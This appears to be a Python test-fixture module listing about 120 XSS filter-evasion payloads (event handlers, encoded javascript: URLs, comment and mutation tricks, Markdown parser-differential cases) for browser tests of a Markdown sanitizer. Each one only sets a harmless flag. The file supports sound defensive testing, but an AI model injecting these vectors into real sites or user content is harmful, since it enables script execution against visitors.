"""A hostile corpus in the style of the OWASP XSS filter-evasion cheat sheet.

Every payload that could run script sets `window.__xss` (or `top.__xss` from a frame) or opens a
dialog, so a browser test can tell whether anything ran. BODY payloads go into the Markdown body
of an entry; TEXT payloads into frontmatter text fields; URL payloads into URL fields.
Nothing here points outside the machine except two deliberately external script sources, which
the browser tests' request guard blocks and records.
"""

from __future__ import annotations

X = "window.__xss=1"

# (name, Markdown body fragment). Names are short ids used in test ids and fixture slugs.
BODY: list[tuple[str, str]] = [
    # Plain tags and event handlers
    ("script", f"<script>{X}</script>"),
    ("script-upper-src", "<SCRIPT SRC=//xss.invalid/xss.js></SCRIPT>"),
    ("script-nested", f"<scr<script>ipt>{X}</scr</script>ipt>"),
    ("script-double-lt", f"<<script>script>{X}<</script>/script>"),
    ("img-onerror", f'<img src=x onerror="{X}">'),
    ("img-onerror-case", "<IMG SRC=x oNeRrOr=alert(1)>"),
    ("img-slashes", f"<img/src=x/onerror={X}>"),
    ("img-unclosed", f"<img src=x onerror={X} //"),
    ("img-multiline", f'<img src="x"\nonerror="{X}">'),
    ("img-backtick", f"<img src=`x` onerror={X}>"),
    ("img-entity-attr", f"<img src=x &#111;nerror={X}>"),
    ("svg-onload", f"<svg onload={X}>"),
    ("svg-slash-onload", f"<svg/onload={X}>"),
    ("svg-script", f"<svg><script>{X}</script></svg>"),
    ("math-mutation", f"<math><mtext><table><mglyph><style><img src=x onerror={X}>"),
    ("details-ontoggle", f"<details open ontoggle={X}><summary>x</summary></details>"),
    ("body-onload", f"<body onload={X}>"),
    ("input-autofocus", f"<input autofocus onfocus={X}>"),
    ("allowed-tag-onclick", f'<p onclick="{X}">klik</p>'),
    ("abbr-onmouseover", f"<abbr title=x onmouseover={X}>x</abbr>"),
    ("a-onclick", f'<a href="#" onclick="{X}">klik</a>'),
    ("video-source", f"<video><source onerror={X}></video>"),
    ("template", f"<template><img src=x onerror={X}></template>"),
    ("noscript-title", f'<noscript><p title="</noscript><img src=x onerror={X}>">'),
    ("base-href", '<base href="javascript:/">'),
    ("meta-refresh", f'<meta http-equiv="refresh" content="0;url=javascript:{X}">'),
    ("link-import", "<link rel=import href=//xss.invalid/x.html>"),
    # javascript:, data: and friends in HTML
    ("a-javascript", f'<a href="javascript:{X}">klik</a>'),
    ("a-javascript-case", f'<a href="JaVaScRiPt:{X}">klik</a>'),
    ("a-javascript-unquoted", f"<a href=javascript:{X}>klik</a>"),
    ("a-javascript-decimal", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;'
                             f'&#116;&#58;{X}">klik</a>'),
    ("a-javascript-hex", f'<a href="&#x6A;avascript:{X}">klik</a>'),
    ("a-javascript-padded", f'<a href="&#0000106avascript:{X}">klik</a>'),
    ("a-javascript-colon-entity", f'<a href="javascript&colon;{X}">klik</a>'),
    ("a-javascript-tab-entity", f'<a href="jav&#x09;ascript:{X}">klik</a>'),
    ("a-javascript-tab", f'<a href="jav\tascript:{X}">klik</a>'),
    ("a-javascript-newline", f'<a href="jav\nascript:{X}">klik</a>'),
    ("a-javascript-newline-entity", f'<a href="jav&#x0A;ascript:{X}">klik</a>'),
    ("a-javascript-leading-space", f'<a href=" &#14;  javascript:{X}">klik</a>'),
    ("a-vbscript", '<a href="vbscript:msgbox(1)">klik</a>'),
    ("a-data", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klik</a>'),
    ("img-javascript", f'<img src="javascript:{X}">'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>top.__xss=1</script>"></iframe>'),
    ("iframe-javascript", '<iframe src="javascript:top.__xss=1"></iframe>'),
    ("object-data", f'<object data="javascript:{X}"></object>'),
    ("embed-src", f'<embed src="javascript:{X}">'),
    ("form-action", f'<form action="javascript:{X}"><button>verstuur</button></form>'),
    ("button-formaction", f'<button formaction="javascript:{X}">x</button>'),
    # Style tricks
    ("style-tag", f"<style>@import 'javascript:{X}';</style>"),
    ("style-attr-url", f'<div style="background:url(javascript:{X})">x</div>'),
    ("style-expression", f'<div style="width: expression({X})">x</div>'),
    ("style-attr-entity", f'<p &#115;tyle="x:expression({X})">x</p>'),
    # Attributes that break out of their quotes (allowed tags and attributes)
    ("abbr-title-quotes", f"<abbr title='\"><script>{X}</script>'>x</abbr>"),
    ("abbr-title-glued", f'<abbr title="a"onmouseover="{X}">x</abbr>'),
    ("a-title-entity-quote", '<a href="https://example.org/" title="&quot;><script>'
                             f'{X}</script>">x</a>'),
    ("img-alt-quotes", f'<img src="x.png" alt="x&#34; onerror=&#34;{X}">'),
    # HTML comments and other markup declarations
    ("comment-bang-close", f"<!-- --!><script>{X}</script> -->"),
    ("comment-empty", f"<!--><script>{X}</script>-->"),
    ("comment-dash", f"<!---><img src=x onerror={X}>-->"),
    ("comment-in-allowed", f"<p>tekst <!-- --!><img src=x onerror={X}> --></p>"),
    ("cdata", f"<![CDATA[<script>{X}</script>]]>"),
    ("processing-instruction", f"<?xml version='1.0'?><script>{X}</script>"),
    # Markdown links, images, autolinks and references
    ("md-link-javascript", f"[klik](javascript:{X})"),
    ("md-link-javascript-upper", f"[klik](JAVASCRIPT:{X})"),
    ("md-link-javascript-entity", f"[klik](javascript&#58;{X})"),
    ("md-link-javascript-hex", f"[klik](&#x6A;avascript:{X})"),
    ("md-link-javascript-pointy", f"[klik](<javascript:{X}>)"),
    ("md-link-javascript-title", f'[klik](javascript:{X} "titel")'),
    ("md-link-data", f"[klik](data:text/html,<script>{X}</script>)"),
    ("md-link-title-break", f'[klik](https://example.org "t\\" onmouseover=\\"{X}")'),
    ("md-link-title-entity", f'[klik](https://example.org "&quot; onmouseover=&quot;{X}")'),
    ("md-image-javascript", f"![x](javascript:{X})"),
    ("md-image-quote", f'![x](x.png" onerror="{X})'),
    ("md-autolink-javascript", f"<javascript:{X}>"),
    ("md-autolink-data", "<data:text/html,x>"),
    ("md-reference", f"[klik][ref]\n\n[ref]: javascript:{X}"),
    ("md-reference-pointy", f"[klik][ref]\n\n[ref]: <javascript:{X}>"),
    ("md-reference-entity", f"[klik][ref]\n\n[ref]: &#106;avascript:{X}"),
    ("md-image-reference", f"![x][img]\n\n[img]: javascript:{X}"),
    # Parser differentials: markdown-it (the check) and Python-Markdown (the renderer)
    ("footnote-img", f"Tekst[^x].\n\n[^x]: <img src=x onerror={X}>"),
    ("footnote-script", f"Tekst[^s].\n\n[^s]: <script>\n    {X}</script>"),
    ("footnote-link", f"Tekst[^j].\n\n[^j]: [klik](javascript:{X})"),
    ("admonition-script", f"!!! note\n\n    <script>{X}</script>"),
    ("admonition-img", f"!!! note\n\n    <img src=x onerror={X}>"),
    ("admonition-title", f'!!! note "<img src=x onerror={X}>"\n    tekst'),
    ("list-indented", f"- punt\n\n        <script>{X}</script>"),
    ("list-indented-img", f"1. punt\n\n        <img src=x onerror={X}>"),
    ("deflist", f"Term\n:   <img src=x onerror={X}>"),
    ("abbr-definition", f"HTML\n\n*[HTML]: \"><img src=x onerror={X}>"),
    ("table-cell", f"| a |\n|---|\n| <img src=x onerror={X}> |"),
    ("heading", f"### Kop <img src=x onerror={X}>"),
    ("code-span-escaped", f"\\`<img src=x onerror={X}>\\`"),
    ("code-span-double", f"`` ` ``<img src=x onerror={X}>"),
    ("html-block-markdown", f'<div>\n<a href="javascript:{X}">x</a>\n</div>'),
    ("html-block-blank-line", f"<div>\n\n<img src=x onerror={X}>\n\n</div>"),
    # Inert on purpose: text, code and safe markup must pass and show as text
    ("escaped-text", f"&lt;script&gt;{X}&lt;/script&gt;"),
    ("code-span", f"`<script>{X}</script>`"),
    ("code-block", f"    <img src=x onerror={X}>"),
    ("safe-link", '<a href="https://example.org/" title="Voorbeeld">een link</a>'),
    ("safe-markup", "<details><summary>Meer</summary><p><strong>vet</strong></p></details>"),
]

# Frontmatter text values: titles, summaries, costs, organisations, outcomes, source titles.
TEXT: list[tuple[str, str]] = [
    ("script", f"<script>{X}</script>"),
    ("attr-break", f'"><img src=x onerror={X}>'),
    ("single-quote-break", f"'><svg onload={X}>"),
    ("title-break", f"</title><script>{X}</script>"),
    ("json-break", f"</script><script>{X}</script>"),
    ("pre-escaped", f"&lt;script&gt;{X}&lt;/script&gt;"),
    ("markdown-link", f"[klik](javascript:{X})"),
    ("template", "{{ 7*7 }} {% raw %}x"),
    ("javascript-text", f"javascript:{X}"),
    ("unicode", "Ｓｃｒｉｐｔ \u202e\u200b \u2028\u2029 \U0001F600 ﷽"),
]

# URL field values (owner.website, sources url). Only the http(s) ones may be accepted.
URL: list[tuple[str, str]] = [
    ("javascript", f"javascript:{X}"),
    ("javascript-case", f"JavaScript:{X}//https://example.org"),
    ("data", "data:text/html,<script>alert(1)</script>"),
    ("quote-break", f'https://example.org/"><script>{X}</script>'),
    ("attr-break", f'https://example.org" onmouseover="{X}'),
    ("fragment-html", f"https://example.org/#<img src=x onerror={X}>"),
    ("userinfo", f"https://javascript:{X}@example.org/"),
    ("safe", "https://www.example.org/pad?a=1&b=2"),
]
